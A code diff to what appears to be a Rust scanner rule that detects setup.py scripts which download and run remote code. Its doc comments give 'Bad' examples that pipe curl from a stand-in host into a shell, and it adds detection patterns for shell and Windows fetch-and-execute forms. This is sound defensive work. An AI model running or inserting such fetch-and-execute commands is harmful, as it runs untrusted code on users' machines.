@@ -17,6 +17,13 @@
 //! os.system('curl -s http://x.example.invalid/a | sh')
 //! ```
 //!
+//! ## Bad
+//!
+//! ```python setup.py
+//! import subprocess
+//! subprocess.run(['bash', '-c', '$(curl -s http://x.example.invalid/a)'])
+//! ```
+//!
 //! ## Good
 //!
 //! ```python setup.py
@@ -60,5 +67,15 @@ fn fetches_and_runs(text: &str) -> bool {
     let runs = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "start-process", "iex", "invoke-expression", "chmod +x", "&& ./", "start ", ".exe"];
     // Programs of Windows that run what they are given the address of.
     let hosts = ["mshta http", "mshta.exe http", "/i:http", "msiexec /i http", "msiexec /q /i http", "mshta vbscript:", "mshta javascript:"];
-    text.len() < 20_000 && hosts.iter().any(|host| text.contains(host)) || text.len() < 20_000 && fetches.iter().any(|f| text.contains(f)) && runs.iter().any(|r| text.contains(r))
+    text.len() < 20_000 && runs_answer(&text) || text.len() < 20_000 && hosts.iter().any(|host| text.contains(host)) || text.len() < 20_000 && fetches.iter().any(|f| text.contains(f)) && runs.iter().any(|r| text.contains(r))
+}
+
+/// Whether a shell is told to run what was fetched: `bash -c "$(curl ...)"`.
+fn runs_answer(text: &str) -> bool {
+    const SHELLS: [&str; 9] =
+        ["-c \"$(", "-c '$(", "-c $(", "-c \"`", "eval \"$(", "eval $(", "eval `", "sh <(", "source <("];
+    ["curl ", "wget "].iter().any(|tool| {
+        let within = |shell: &str| text.match_indices(shell).any(|(at, _)| text[at + shell.len()..].starts_with(tool));
+        SHELLS.iter().any(|shell| within(shell)) || text.strip_prefix("$(").is_some_and(|rest| rest.starts_with(tool))
+    })
 }
